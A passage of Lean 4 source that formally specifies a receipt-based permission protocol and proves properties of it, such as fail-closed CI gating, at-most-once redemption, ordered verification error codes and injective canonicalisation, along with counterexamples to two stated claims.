def verify (store : String → Option StoredReceipt) (keys : List SigningKey)
    (mode : SigningMode) (edVerify : String → String → String → Bool)
    (req : VerifyRequest) (now : Nat) :
    VerifyOutcome × (String → Option StoredReceipt) :=
  match store req.receiptId with
  | none => (.invalid "PP_NO_RECEIPT", store)
  | some r =>
    if now > r.expiresAt then (.invalid "PP_EXPIRED", store)
    else if r.redeemedAt ≠ none then (.invalid "PP_REDEEMED", store)
    else if ¬ (req.scope = r.scope ∧ req.scopeRef = r.scopeRef ∧
               req.scopeSha = r.scopeSha) then
      (.invalid "PP_SCOPE_MISMATCH", store)
    else if mode = .required ∧ r.signature = none then
      (.invalid "PP_UNSIGNED_RECEIPT", store)
    else
      if signatureCheck keys edVerify r then
        if req.redeem then
          match tryRedeem r.redeemedAt now with
          | (.ok, newRA) =>
            (.valid (toPublicView { r with redeemedAt := newRA }),
             fun id => if id = req.receiptId then
               some { r with redeemedAt := newRA } else store id)
          | (.alreadyRedeemed, _) => (.invalid "PP_REDEEMED", store)
        else (.valid (toPublicView r), store)
      else (.invalid "PP_INVALID_SIGNATURE", store)

end PermissionProtocol

namespace PermissionProtocol

/-! ## Theorems for the demo code -/

/-- **C1.** Fail-closed CI gate: for every receipt id string — empty,
`'undefined'`, `'null'`, mis-prefixed, or well-formed but unknown —
`simulateCIGateVerification` returns `blocked = true` with a non-empty
message, and there exists no input on which it returns `blocked = false`. -/
theorem gate_fail_closed :
    (∀ receiptId : String,
      (simulateCIGateVerification receiptId).blocked = true ∧
      (simulateCIGateVerification receiptId).message ≠ "") ∧
    ¬ ∃ receiptId : String,
      (simulateCIGateVerification receiptId).blocked = false := by
  constructor
  · intro receiptId
    unfold simulateCIGateVerification
    split
    · exact ⟨rfl, by decide⟩
    · split
      · refine ⟨rfl, ?_⟩
        intro h
        have h2 := congrArg String.length h
        rw [String.length_append, String.length_append] at h2
        have e1 : ("Invalid receipt ID format: \"").length = 28 := by decide
        have e2 : ("\". Expected rec_ or apr_ prefix.").length = 32 := by decide
        have e3 : ("" : String).length = 0 := by decide
        omega
      · refine ⟨rfl, ?_⟩
        intro h
        have h2 := congrArg String.length h
        rw [String.length_append, String.length_append] at h2
        have e1 : ("Receipt not found: \"").length = 20 := by decide
        have e2 :
            ("\". The receipt may have expired or the ID may be incorrect.").length
              = 59 := by decide
        have e3 : ("" : String).length = 0 := by decide
        omega
  · rintro ⟨receiptId, h⟩
    unfold simulateCIGateVerification at h
    split at h
    · simp at h
    · split at h <;> simp at h

/-- **C8.** `truncate` returns `text` unchanged when it fits within
`maxLength`, otherwise the first `maxLength - 3` characters followed by
`"..."`; in both cases (for `maxLength ≥ 3`) the result's length is at
most `maxLength`. -/
theorem truncate_spec (text : List Char) (maxLength : Nat)
    (h : 3 ≤ maxLength) :
    (text.length ≤ maxLength → truncate text maxLength = text) ∧
    (maxLength < text.length →
      truncate text maxLength = text.take (maxLength - 3) ++ ['.', '.', '.']) ∧
    (truncate text maxLength).length ≤ maxLength := by
  refine ⟨fun hle => ?_, fun hlt => ?_, ?_⟩
  · simp [truncate, hle]
  · simp [truncate, Nat.not_le.mpr hlt]
  · by_cases hle : text.length ≤ maxLength
    · simp [truncate, hle]
    · simp only [truncate, if_neg hle, List.length_append, List.length_take,
        List.length_cons, List.length_nil]
      omega

/-- Witness for C8 at `text = "abcd"`, `maxLength = 3`: the hypothesis
`3 ≤ 3` holds and the truncation fits in 3 characters. -/
theorem truncate_spec_witness :
    (truncate ['a', 'b', 'c', 'd'] 3).length ≤ 3 :=
  (truncate_spec ['a', 'b', 'c', 'd'] 3 (by decide)).2.2

/-- **C2.** The gated business action is only ever executed on an
`APPROVED` status: in each scenario `run` (spend, prod-write, message) the
mock tool is invoked only when the execute result's status is `APPROVED`;
on a `DENIED` or `REQUIRES_APPROVAL` result — and on a thrown error — no
tool call occurs. -/
theorem scenario_tool_gating (outcome : Except String ExecuteResult) (t : String) :
    ((ScenarioEvent.toolCalled t ∈ runSpend outcome ∨
      ScenarioEvent.toolCalled t ∈ runProdWrite outcome ∨
      ScenarioEvent.toolCalled t ∈ runMessage outcome) →
      ∃ r, outcome = Except.ok r ∧ r.status = "APPROVED") ∧
    (∀ r, outcome = Except.ok r →
      (r.status = "DENIED" ∨ r.status = "REQUIRES_APPROVAL") →
      ScenarioEvent.toolCalled t ∉ runSpend outcome ∧
      ScenarioEvent.toolCalled t ∉ runProdWrite outcome ∧
      ScenarioEvent.toolCalled t ∉ runMessage outcome) := by
  cases outcome with
  | error e =>
    refine ⟨?_, ?_⟩
    · intro hmem
      simp [runSpend, runProdWrite, runMessage, scenarioRun] at hmem
    · intro r hr
      cases hr
  | ok r =>
    by_cases hs : r.status = "APPROVED"
    · refine ⟨fun _ => ⟨r, rfl, hs⟩, ?_⟩
      rintro r' hr' (hd | hd) <;>
        (injection hr' with hr'; subst hr'; rw [hd] at hs; simp at hs)
    · refine ⟨?_, ?_⟩
      · intro hmem
        simp [runSpend, runProdWrite, runMessage, scenarioRun, hs] at hmem
      · intro r' hr' _
        refine ⟨?_, ?_, ?_⟩ <;>
          simp [runSpend, runProdWrite, runMessage, scenarioRun, hs]

/-- Witness for C2 at a concrete `DENIED` result: the spend scenario never
calls `chargeCustomer`. -/
theorem scenario_tool_gating_witness :
    ScenarioEvent.toolCalled "chargeCustomer" ∉
      runSpend (Except.ok ⟨"DENIED", ⟨"rec_1", []⟩⟩) :=
  ((scenario_tool_gating (Except.ok ⟨"DENIED", ⟨"rec_1", []⟩⟩)
      "chargeCustomer").2 ⟨"DENIED", ⟨"rec_1", []⟩⟩ rfl (Or.inl rfl)).1

/-- **C3, counterexample.** The claim "every decision value appearing at
the public interface belongs to {APPROVED, DENIED, REQUIRES_APPROVAL}"
fails at the verify endpoint's documented receipt view, whose `decision`
field is `"ALLOW"` — a value outside the receipt standard's three-value
enum. -/
theorem decision_interface_counterexample :
    verifySuccessResponseExample.decision = "ALLOW" ∧
    verifySuccessResponseExample.decision ∉ receiptStandardDecisionEnum := by
  decide

/-- **C3, amended.** The receipt standard's `decision` enum contains
exactly `APPROVED`, `DENIED`, `REQUIRES_APPROVAL`; the demo's status
handling colors exactly these three (plus the exception marker `ERROR`,
which is not a receipt decision) and renders every other status with the
default white; only `APPROVED` receipts are signing-eligible.  The verify
endpoint's documented receipt view uses the hosted-vocabulary value
`ALLOW`, which lies outside the three-value set. -/
theorem decision_three_valued (d : String)
    (hA : d ≠ "APPROVED") (hD : d ≠ "DENIED")
    (hR : d ≠ "REQUIRES_APPROVAL") (hE : d ≠ "ERROR") :
    d ∉ receiptStandardDecisionEnum ∧
    statusColor d = colorize d ColorName.white ∧
    signingEligible d = false ∧
    receiptStandardDecisionEnum = ["APPROVED", "DENIED", "REQUIRES_APPROVAL"] ∧
    statusColor "APPROVED" = colorize "APPROVED" ColorName.green ∧
    statusColor "DENIED" = colorize "DENIED" ColorName.red ∧
    statusColor "REQUIRES_APPROVAL" = colorize "REQUIRES_APPROVAL" ColorName.yellow ∧
    statusColor "ERROR" = colorize "ERROR" ColorName.red ∧
    signingEligible "APPROVED" = true ∧
    verifySuccessResponseExample.decision = "ALLOW" := by
  refine ⟨?_, ?_, ?_, rfl, by decide, by decide, by decide, by decide, by decide, rfl⟩
  · simp [receiptStandardDecisionEnum, hA, hD, hR]
  · simp [statusColor, hA, hD, hR, hE]
  · simp [signingEligible, hA]

/-- Witness for C3 (amended) at `d = "ALLOW"`: the hosted decision value is
outside the enum and is rendered with the default white color. -/
theorem decision_three_valued_witness :
    "ALLOW" ∉ receiptStandardDecisionEnum ∧
    statusColor "ALLOW" = colorize "ALLOW" ColorName.white :=
  ⟨(decision_three_valued "ALLOW" (by decide) (by decide) (by decide) (by decide)).1,
   (decision_three_valued "ALLOW" (by decide) (by decide) (by decide) (by decide)).2.1⟩

/-- The environment of the C9 counterexample: `PP_ENDPOINT` is set, but to
the empty string; the other two required variables are set and non-empty. -/
def envEmptyEndpoint : DemoEnv :=
  { ppEndpoint := some ""
    ppApiKey := some "key-1"
    ppTenantId := some "tenant-1"
    ppAgentId := none }

/-- **C9, counterexample.** The claim says `validateEnv` exits only when a
required variable is *unset* and otherwise returns the configuration; but
with `PP_ENDPOINT` set to the empty string (all three variables set) the
code still exits with code 1, because JavaScript `if (!endpoint)` treats
the empty string as falsy. -/
theorem validateEnv_claim_counterexample :
    envEmptyEndpoint.ppEndpoint.isSome = true ∧
    envEmptyEndpoint.ppApiKey.isSome = true ∧
    envEmptyEndpoint.ppTenantId.isSome = true ∧
    validateEnv envEmptyEndpoint = Except.error 1 := by
  refine ⟨rfl, rfl, rfl, rfl⟩

/-- **C9, amended.** `validateEnv` exits with code 1 whenever any of
`PP_ENDPOINT`, `PP_API_KEY`, `PP_TENANT_ID` is unset *or set to the empty
string* (JavaScript falsiness), and otherwise returns exactly those three
values together with `agentId` equal to `PP_AGENT_ID` when that is set to
a non-empty string and `'demo-agent'` otherwise; it never returns a
partially-populated configuration. -/
theorem validateEnv_spec (env : DemoEnv) :
    ((truthy env.ppEndpoint = false ∨ truthy env.ppApiKey = false ∨
      truthy env.ppTenantId = false) → validateEnv env = Except.error 1) ∧
    (truthy env.ppEndpoint = true → truthy env.ppApiKey = true →
      truthy env.ppTenantId = true →
      validateEnv env = Except.ok
        ⟨env.ppEndpoint.getD "", env.ppApiKey.getD "",
         env.ppTenantId.getD "", jsOrElse env.ppAgentId "demo-agent"⟩) ∧
    (∀ s d : String, s ≠ "" → jsOrElse (some s) d = s) ∧
    (∀ d : String, jsOrElse (some "") d = d ∧ jsOrElse none d = d) := by
  refine ⟨?_, ?_, ?_, ?_⟩
  · rintro (h | h | h) <;> simp [validateEnv, h]
  · intro he ha ht
    simp [validateEnv, he, ha, ht]
  · intro s d hs
    simp [jsOrElse, hs]
  · intro d
    exact ⟨rfl, rfl⟩

/-- Witness for C9 (amended) at a fully-populated environment: the
configuration is returned intact. -/
theorem validateEnv_spec_witness :
    validateEnv ⟨some "https://pp.example", some "key-1", some "tenant-1",
      some "agent-7"⟩ =
      Except.ok ⟨"https://pp.example", "key-1", "tenant-1", "agent-7"⟩ := by
  have h := (validateEnv_spec
    ⟨some "https://pp.example", some "key-1", some "tenant-1", some "agent-7"⟩).2.1
    (by decide) (by decide) (by decide)
  simpa [jsOrElse] using h

/-! ### Lemmas about `stripAnsi` for C10 -/

/-- `ansiParams` consumes at least the closing `m`. -/
theorem ansiParams_length :
    ∀ l r : List Char, ansiParams l = some r → r.length < l.length := by
  intro l
  induction l with
  | nil => intro r hr; simp [ansiParams] at hr
  | cons a as ih =>
    intro r hr
    simp only [ansiParams] at hr
    split at hr
    · cases hr; simp
    · split at hr
      · have := ih r hr
        simp only [List.length_cons]
        omega
      · cases hr

/-- `ansiCode` consumes at least `[` and the closing `m`. -/
theorem ansiCode_length :
    ∀ l r : List Char, ansiCode l = some r → r.length < l.length := by
  intro l r h
  unfold ansiCode at h
  split at h
  · have := ansiParams_length _ _ h
    simp only [List.length_cons] at *
    omega
  · cases h

/-- Appending spaces cannot create or destroy a parameter-tail match: the
space character is neither `m` nor in the class `[0-9;]`. -/
theorem ansiParams_append_spaces (n : Nat) :
    ∀ l : List Char,
      ansiParams (l ++ List.replicate n ' ') =
        (ansiParams l).map (· ++ List.replicate n ' ') := by
  intro l
  induction l with
  | nil =>
    cases n with
    | zero => simp [ansiParams]
    | succ m => simp [List.replicate_succ, ansiParams]
  | cons a as ih =>
    simp only [List.cons_append, ansiParams]
    split
    · simp
    · split
      · exact ih
      · simp

/-- Appending spaces cannot create or destroy an ANSI-code match. -/
theorem ansiCode_append_spaces (n : Nat) :
    ∀ l : List Char,
      ansiCode (l ++ List.replicate n ' ') =
        (ansiCode l).map (· ++ List.replicate n ' ') := by
  intro l
  match l with
  | [] =>
    cases n with
    | zero => simp [ansiCode]
    | succ m => simp [List.replicate_succ, ansiCode]
  | '[' :: rest =>
    simp only [List.cons_append, ansiCode]
    exact ansiParams_append_spaces n rest
  | c :: rest =>
    by_cases hc : c = '['
    · subst hc
      simp only [List.cons_append, ansiCode]
      exact ansiParams_append_spaces n rest
    · rw [List.cons_append, ansiCode.eq_def, ansiCode.eq_def]
      split
      · simp_all
      · split
        · simp_all
        · simp

/-- `stripAnsi` leaves a run of spaces unchanged. -/
theorem stripAnsi_replicate_space (n : Nat) :
    stripAnsi (List.replicate n ' ') = List.replicate n ' ' := by
  induction n with
  | zero => simp [stripAnsi]
  | succ m ih =>
    rw [List.replicate_succ, stripAnsi]
    simp only [ih]
    simp

/-- Appending spaces to a string commutes with ANSI stripping: the
appended spaces pass through `replace(/\x1b\[[0-9;]*m/g, '')` untouched
and cannot complete a partial escape sequence. -/
theorem stripAnsi_append_spaces (n : Nat) :
    ∀ l : List Char,
      stripAnsi (l ++ List.replicate n ' ') =
        stripAnsi l ++ List.replicate n ' ' := by
  have main : ∀ (len : Nat) (l : List Char), l.length ≤ len →
      stripAnsi (l ++ List.replicate n ' ') =
        stripAnsi l ++ List.replicate n ' ' := by
    intro len
    induction len with
    | zero =>
      intro l hl
      have : l = [] := List.eq_nil_of_length_eq_zero (Nat.le_zero.mp hl)
      subst this
      simp [stripAnsi, stripAnsi_replicate_space]
    | succ len ih =>
      intro l hl
      match l with
      | [] => simp [stripAnsi, stripAnsi_replicate_space]
      | c :: rest =>
        rw [List.cons_append, stripAnsi, stripAnsi]
        by_cases hc : c = '\x1b'
        · rw [if_pos hc, if_pos hc]
          rw [ansiCode_append_spaces]
          cases h : ansiCode rest with
          | none =>
            have hr : rest.length ≤ len := by
              simp only [List.length_cons] at hl; omega
            simp only [Option.map_none]
            rw [ih rest hr]
            simp
          | some r2 =>
            simp only [Option.map_some]
            have hr2 : r2.length ≤ len := by
              have := ansiCode_length rest r2 h
              simp only [List.length_cons] at hl
              omega
            exact ih r2 hr2
        · rw [if_neg hc, if_neg hc]
          have hr : rest.length ≤ len := by
            simp only [List.length_cons] at hl; omega
          rw [ih rest hr]
          simp
  intro l
  exact main l.length l (Nat.le_refl _)

/-! ### Lemmas for C4: canonicalization is injective -/

/-- `hexVal` inverts `hexDigit` on values below 16. -/
theorem hexVal_hexDigit : ∀ n, n < 16 → hexVal (hexDigit n) = n := by decide

/-- Decoding inverts escaping: `decodeEscaped` recovers the escaped string
and the input following its closing quote. -/
theorem decodeEscaped_escapeString :
    ∀ (s t : List Char),
      decodeEscaped (escapeString s ++ ('"' :: t)) = some (s, t) := by
  intro s
  induction s with
  | nil =>
    intro t
    rw [escapeString, List.nil_append, decodeEscaped.eq_def]
    simp
  | cons c cs ih =>
    intro t
    simp only [escapeString]
    unfold escapeChar
    split_ifs with h1 h2 h3 h4 h5 h6 h7 h8
    · subst h1
      simp only [List.cons_append, List.singleton_append]
      rw [decodeEscaped.eq_def]
      simp [ih]
    · subst h2
      simp only [List.cons_append, List.singleton_append]
      rw [decodeEscaped.eq_def]
      simp [ih]
    · subst h3
      simp only [List.cons_append, List.singleton_append]
      rw [decodeEscaped.eq_def]
      simp [ih]
    · subst h4
      simp only [List.cons_append, List.singleton_append]
      rw [decodeEscaped.eq_def]
      simp [ih]
    · subst h5
      simp only [List.cons_append, List.singleton_append]
      rw [decodeEscaped.eq_def]
      simp [ih]
    · subst h6
      simp only [List.cons_append, List.singleton_append]
      rw [decodeEscaped.eq_def]
      simp [ih]
    · subst h7
      simp only [List.cons_append, List.singleton_append]
      rw [decodeEscaped.eq_def]
      simp [ih]
    · have hd1 : hexVal (hexDigit (c.toNat / 16)) = c.toNat / 16 :=
        hexVal_hexDigit _ (by omega)
      have hd2 : hexVal (hexDigit (c.toNat % 16)) = c.toNat % 16 :=
        hexVal_hexDigit _ (by omega)
      rw [decodeEscaped.eq_def]
      simp [ih, hd1, hd2, Nat.div_add_mod, Char.ofNat_toNat]
    · rw [decodeEscaped.eq_def]
      simp [ih, h1, h2]

/-- Two escaped-and-quote-terminated segments that serialize equally have
equal content and equal tails. -/
theorem escape_quote_cancel {a b t1 t2 : List Char}
    (h : escapeString a ++ ('"' :: t1) = escapeString b ++ ('"' :: t2)) :
    a = b ∧ t1 = t2 := by
  have h1 := decodeEscaped_escapeString a t1
  rw [h, decodeEscaped_escapeString b t2] at h1
  simp only [Option.some.injEq, Prod.mk.injEq] at h1
  exact ⟨h1.1.symm, h1.2.symm⟩

/-- The canonical form of the signable subset, as nested key-value
segments. -/
theorem canonicalizeSignable_shape (p : SignablePayload) :
    canonicalizeSignable p =
      '\x7b' :: kvSeg "decision" p.decision (',' ::
        kvSeg "expiresAt" p.expiresAt (',' ::
          kvSeg "issuedAt" p.issuedAt (',' ::
            kvSeg "receiptId" p.receiptId (',' ::
              kvSeg "scope" p.scope (',' ::
                kvSeg "scopeRef" p.scopeRef (',' ::
                  kvSeg "scopeSha" p.scopeSha ['\x7d'])))))) := by
  simp [canonicalizeSignable, jsonObject, jsonMember, jsonString, kvSeg,
    List.intercalate, List.intersperse]

/-- Canonicalization of the signable subset is injective. -/
theorem canonicalizeSignable_inj {p q : SignablePayload}
    (h : canonicalizeSignable p = canonicalizeSignable q) : p = q := by
  rw [canonicalizeSignable_shape, canonicalizeSignable_shape] at h
  injection h with _ h
  simp only [kvSeg] at h
  injection h with _ h
  obtain ⟨-, h⟩ := escape_quote_cancel h
  injection h with _ h
  injection h with _ h
  obtain ⟨h1, h⟩ := escape_quote_cancel h
  injection h with _ h
  injection h with _ h
  obtain ⟨-, h⟩ := escape_quote_cancel h
  injection h with _ h
  injection h with _ h
  obtain ⟨h2, h⟩ := escape_quote_cancel h
  injection h with _ h
  injection h with _ h
  obtain ⟨-, h⟩ := escape_quote_cancel h
  injection h with _ h
  injection h with _ h
  obtain ⟨h3, h⟩ := escape_quote_cancel h
  injection h with _ h
  injection h with _ h
  obtain ⟨-, h⟩ := escape_quote_cancel h
  injection h with _ h
  injection h with _ h
  obtain ⟨h4, h⟩ := escape_quote_cancel h
  injection h with _ h
  injection h with _ h
  obtain ⟨-, h⟩ := escape_quote_cancel h
  injection h with _ h
  injection h with _ h
  obtain ⟨h5, h⟩ := escape_quote_cancel h
  injection h with _ h
  injection h with _ h
  obtain ⟨-, h⟩ := escape_quote_cancel h
  injection h with _ h
  injection h with _ h
  obtain ⟨h6, h⟩ := escape_quote_cancel h
  injection h with _ h
  injection h with _ h
  obtain ⟨-, h⟩ := escape_quote_cancel h
  injection h with _ h
  injection h with _ h
  obtain ⟨h7, -⟩ := escape_quote_cancel h
  cases p
  cases q
  simp only at h1 h2 h3 h4 h5 h6 h7
  congr 1 <;> exact congrArg String.mk (by assumption)

set_option maxRecDepth 100000 in
set_option maxHeartbeats 2000000 in
/-- **C4.** Canonicalization is deterministic and collision-resistant for
distinguishable payloads: receipts differing in any signable field
canonicalize differently; in particular the two trust-test payloads —
same tool and operation, different input content — produce different
`computeHash` values. -/
theorem canonicalization_collision_resistant
    (p1 p2 : SignablePayload) (h : p1 ≠ p2) :
    canonicalizeSignable p1 ≠ canonicalizeSignable p2 ∧
    originalPayload.tool = maliciousPayload.tool ∧
    originalPayload.operation = maliciousPayload.operation ∧
    originalPayload.input ≠ maliciousPayload.input ∧
    computeHash originalPayload ≠ computeHash maliciousPayload := by
  refine ⟨fun hc => h (canonicalizeSignable_inj hc), rfl, rfl, by decide, ?_⟩
  decide

/-- Witness for C4 at two concrete signable payloads differing only in
`scopeSha`: their canonicalizations differ, and the two trust-test
payloads hash differently. -/
theorem canonicalization_collision_resistant_witness :
    canonicalizeSignable
        ⟨"APPROVED", "T1", "T0", "rec_1", "github:merge", "refs/pull/16/merge", "abc123"⟩ ≠
      canonicalizeSignable
        ⟨"APPROVED", "T1", "T0", "rec_1", "github:merge", "refs/pull/16/merge", "abc124"⟩ ∧
    computeHash originalPayload ≠ computeHash maliciousPayload :=
  ⟨(canonicalization_collision_resistant
      ⟨"APPROVED", "T1", "T0", "rec_1", "github:merge", "refs/pull/16/merge", "abc123"⟩
      ⟨"APPROVED", "T1", "T0", "rec_1", "github:merge", "refs/pull/16/merge", "abc124"⟩
      (by decide)).1,
   (canonicalization_collision_resistant
      ⟨"APPROVED", "T1", "T0", "rec_1", "github:merge", "refs/pull/16/merge", "abc123"⟩
      ⟨"APPROVED", "T1", "T0", "rec_1", "github:merge", "refs/pull/16/merge", "abc124"⟩
      (by decide)).2.2.2.2⟩

/-- **C10.** `padRight` appends only spaces, and the visible length of the
result — the length after removing ANSI escape sequences matching
`\x1b\[[0-9;]*m` — equals `max width (visible length of text)`. -/
theorem padRight_spec (text : List Char) (width : Nat) :
    (∃ k, padRight text width = text ++ List.replicate k ' ') ∧
    (stripAnsi (padRight text width)).length =
      max width (stripAnsi text).length := by
  constructor
  · exact ⟨_, rfl⟩
  · rw [padRight, stripAnsi_append_spaces]
    simp only [List.length_append, List.length_replicate]
    omega

/-- Witness for C1 at a concrete typo'd receipt id. -/
theorem gate_fail_closed_witness :
    (simulateCIGateVerification "rec_TYPO_abc123").blocked = true :=
  (gate_fail_closed.1 "rec_TYPO_abc123").1

/-! ### Lemmas for C5: the redemption ledger -/

/-- Once the cell is set, every further `tryRedeem` call returns
`AlreadyRedeemed` and leaves the cell unchanged. -/
theorem runRedeemCalls_redeemed (v : Nat) :
    ∀ ts, runRedeemCalls (some v) ts =
      (List.replicate ts.length RedeemOutcome.alreadyRedeemed, some v) := by
  intro ts
  induction ts with
  | nil => rfl
  | cons t ts ih =>
    simp [runRedeemCalls, tryRedeem, ih, List.replicate_succ]

/-- A redeeming `verify` that succeeded has written `redeemedAt = now`
for the requested receipt into the store it returned. -/
theorem verify_valid_redeems
    (store : String → Option StoredReceipt) (keys : List SigningKey)
    (mode : SigningMode) (edVerify : String → String → String → Bool)
    (req : VerifyRequest) (now : Nat) (v : ReceiptPublicView)
    (st1 : String → Option StoredReceipt)
    (hredeem : req.redeem = true)
    (hv : verify store keys mode edVerify req now = (VerifyOutcome.valid v, st1)) :
    ∃ r', st1 req.receiptId = some r' ∧ r'.redeemedAt = some now := by
  unfold verify at hv
  split at hv
  next => simp at hv
  next r hr =>
    split at hv
    next => simp at hv
    next he =>
      split at hv
      next => simp at hv
      next hrd =>
        split at hv
        next => simp at hv
        next hsc =>
          split at hv
          next => simp at hv
          next hm =>
            split at hv
            next hsig =>
              split at hv
              next hred =>
                have hnone : r.redeemedAt = none := not_not.mp hrd
                rw [hnone] at hred
                simp only [tryRedeem] at hred
                injection hred with _ hra
                subst hra
                injection hv with hv1 hv2
                refine ⟨{ r with redeemedAt := some now }, ?_, rfl⟩
                rw [← hv2]
                simp
              next hred =>
                have hnone : r.redeemedAt = none := not_not.mp hrd
                rw [hnone] at hred
                simp [tryRedeem] at hred
            next hsig => simp at hv

/-- A receipt whose stored `redeemedAt` is set never verifies as valid:
the Verifier reports `PP_EXPIRED` or `PP_REDEEMED` instead. -/
theorem verify_redeemed_not_valid
    (store : String → Option StoredReceipt) (keys : List SigningKey)
    (mode : SigningMode) (edVerify : String → String → String → Bool)
    (req : VerifyRequest) (now : Nat) (r' : StoredReceipt) (t : Nat)
    (hs : store req.receiptId = some r') (hrd : r'.redeemedAt = some t) :
    ∀ v, (verify store keys mode edVerify req now).1 ≠ VerifyOutcome.valid v := by
  intro v
  simp only [verify, hs]
  by_cases he : now > r'.expiresAt
  · simp [he]
  · simp [he, hrd]

/-- **C5.** Redemption is at-most-once: for any nonempty serialization of
N concurrent `tryRedeem` calls on an unredeemed receipt, exactly one
returns Ok and the other N−1 return AlreadyRedeemed; `redeemedAt`
transitions exactly once, from null to the winning call's timestamp; and
two verify-and-redeem calls for the same receipt can never both
succeed. -/
theorem redemption_at_most_once (times : List Nat) (h : times ≠ []) :
    ((runRedeemCalls none times).1.count RedeemOutcome.ok = 1) ∧
    ((runRedeemCalls none times).1.count RedeemOutcome.alreadyRedeemed =
      times.length - 1) ∧
    ((runRedeemCalls none times).2 = some (times.head h)) ∧
    (∀ v n, tryRedeem (some v) n = (RedeemOutcome.alreadyRedeemed, some v)) ∧
    (∀ n, tryRedeem none n = (RedeemOutcome.ok, some n)) ∧
    (∀ (store : String → Option StoredReceipt) keys mode edVerify
        (req : VerifyRequest) now1 now2 v st1,
      req.redeem = true →
      verify store keys mode edVerify req now1 = (VerifyOutcome.valid v, st1) →
      ∀ v2, (verify st1 keys mode edVerify req now2).1 ≠ VerifyOutcome.valid v2) := by
  obtain ⟨t, ts, rfl⟩ := List.exists_cons_of_ne_nil h
  refine ⟨?_, ?_, ?_, fun v n => rfl, fun n => rfl, ?_⟩
  · simp [runRedeemCalls, tryRedeem, runRedeemCalls_redeemed,
      List.count_cons, List.count_replicate]
  · simp [runRedeemCalls, tryRedeem, runRedeemCalls_redeemed,
      List.count_cons, List.count_replicate]
  · simp [runRedeemCalls, tryRedeem, runRedeemCalls_redeemed]
  · intro store keys mode edVerify req now1 now2 v st1 hredeem hv v2
    obtain ⟨r', hs', hrd'⟩ :=
      verify_valid_redeems store keys mode edVerify req now1 v st1 hredeem hv
    exact verify_redeemed_not_valid st1 keys mode edVerify req now2 r' now1
      hs' hrd' v2

/-- Witness for C5 at the one-call serialization `[5]`: exactly one Ok. -/
theorem redemption_at_most_once_witness :
    (runRedeemCalls none [5]).1.count RedeemOutcome.ok = 1 :=
  (redemption_at_most_once [5] (by decide)).1

/-- **C6.** `verify` performs its checks in a fixed order, short-circuiting
on the first failure, each failure mapped to its distinct code: missing
receipt → `PP_NO_RECEIPT`; expiry → `PP_EXPIRED`; redeemed →
`PP_REDEEMED`; scope-triple mismatch → `PP_SCOPE_MISMATCH`; required mode
with null signature → `PP_UNSIGNED_RECEIPT`; missing or revoked key or
Ed25519 mismatch → `PP_INVALID_SIGNATURE`; every failing result's code is
drawn from exactly this six-element (duplicate-free) set. -/
theorem verify_ordered_checks
    (store : String → Option StoredReceipt) (keys : List SigningKey)
    (mode : SigningMode) (edVerify : String → String → String → Bool)
    (req : VerifyRequest) (now : Nat) :
    (∀ c, (verify store keys mode edVerify req now).1 = VerifyOutcome.invalid c →
      c ∈ ppErrorCodes) ∧
    (store req.receiptId = none →
      (verify store keys mode edVerify req now).1 =
        VerifyOutcome.invalid "PP_NO_RECEIPT") ∧
    (∀ r, store req.receiptId = some r →
      (now > r.expiresAt →
        (verify store keys mode edVerify req now).1 =
          VerifyOutcome.invalid "PP_EXPIRED") ∧
      (now ≤ r.expiresAt → r.redeemedAt ≠ none →
        (verify store keys mode edVerify req now).1 =
          VerifyOutcome.invalid "PP_REDEEMED") ∧
      (now ≤ r.expiresAt → r.redeemedAt = none →
        ¬ (req.scope = r.scope ∧ req.scopeRef = r.scopeRef ∧
           req.scopeSha = r.scopeSha) →
        (verify store keys mode edVerify req now).1 =
          VerifyOutcome.invalid "PP_SCOPE_MISMATCH") ∧
      (now ≤ r.expiresAt → r.redeemedAt = none →
        (req.scope = r.scope ∧ req.scopeRef = r.scopeRef ∧
         req.scopeSha = r.scopeSha) →
        mode = SigningMode.required → r.signature = none →
        (verify store keys mode edVerify req now).1 =
          VerifyOutcome.invalid "PP_UNSIGNED_RECEIPT") ∧
      (∀ sig, now ≤ r.expiresAt → r.redeemedAt = none →
        (req.scope = r.scope ∧ req.scopeRef = r.scopeRef ∧
         req.scopeSha = r.scopeSha) →
        ¬ (mode = SigningMode.required ∧ r.signature = none) →
        r.signature = some sig →
        (getKey keys (r.keyId.getD "") = none ∨
          ∃ k, getKey keys (r.keyId.getD "") = some k ∧
            (k.status = KeyStatus.revoked ∨
             edVerify sig (canonicalDigest r) k.publicKey = false)) →
        (verify store keys mode edVerify req now).1 =
          VerifyOutcome.invalid "PP_INVALID_SIGNATURE")) ∧
    ppErrorCodes.Nodup := by
  refine ⟨?_, ?_, ?_, by decide⟩
  · intro c hc
    unfold verify at hc
    repeat' split at hc
    all_goals simp_all [ppErrorCodes]
  · intro h0
    simp [verify, h0]
  · intro r hr
    refine ⟨?_, ?_, ?_, ?_, ?_⟩
    · intro hexp
      simp [verify, hr, hexp]
    · intro hle hne
      simp [verify, hr, Nat.not_lt.mpr hle, hne]
    · intro hle hnone hsc
      simp [verify, hr, Nat.not_lt.mpr hle, hnone, hsc]
    · intro hle hnone hsc hmode hsig
      simp [verify, hr, Nat.not_lt.mpr hle, hnone, hsc.1, hsc.2.1, hsc.2.2,
        hmode, hsig]
    · intro sig hle hnone hsc hnm hsig hbad
      have hsf : signatureCheck keys edVerify r = false := by
        unfold signatureCheck
        rw [hsig]
        rcases hbad with hk | ⟨k, hk, hkbad⟩
        · simp [hk]
        · rcases hkbad with hrev | hev
          · simp [hk, hrev]
          · simp [hk, hev]
      simp [verify, hr, Nat.not_lt.mpr hle, hnone, hsc.1, hsc.2.1, hsc.2.2,
        hnm, hsf]

/-- Witness for C6 at an empty store: a missing receipt yields
`PP_NO_RECEIPT`. -/
theorem verify_ordered_checks_witness :
    (verify (fun _ => none) [] SigningMode.required (fun _ _ _ => true)
      ⟨"rec_x", "github:merge", "refs/pull/16/merge", "abc", true⟩ 0).1 =
      VerifyOutcome.invalid "PP_NO_RECEIPT" :=
  (verify_ordered_checks (fun _ => none) [] SigningMode.required
    (fun _ _ _ => true)
    ⟨"rec_x", "github:merge", "refs/pull/16/merge", "abc", true⟩ 0).2.1 rfl

/-! ### Lemmas for C7: the KeyStore lifecycle -/

/-- `find?` by key id commutes with a key-id-preserving map. -/
theorem find?_keyId_map (f : SigningKey → SigningKey)
    (hf : ∀ k, (f k).keyId = k.keyId) (id : String) :
    ∀ l : List SigningKey,
      (l.map f).find? (fun k => k.keyId == id) =
        (l.find? (fun k => k.keyId == id)).map f := by
  intro l
  induction l with
  | nil => rfl
  | cons a as ih =>
    simp only [List.map_cons, List.find?]
    rw [hf a]
    by_cases hb : (a.keyId == id) = true
    · simp [hb]
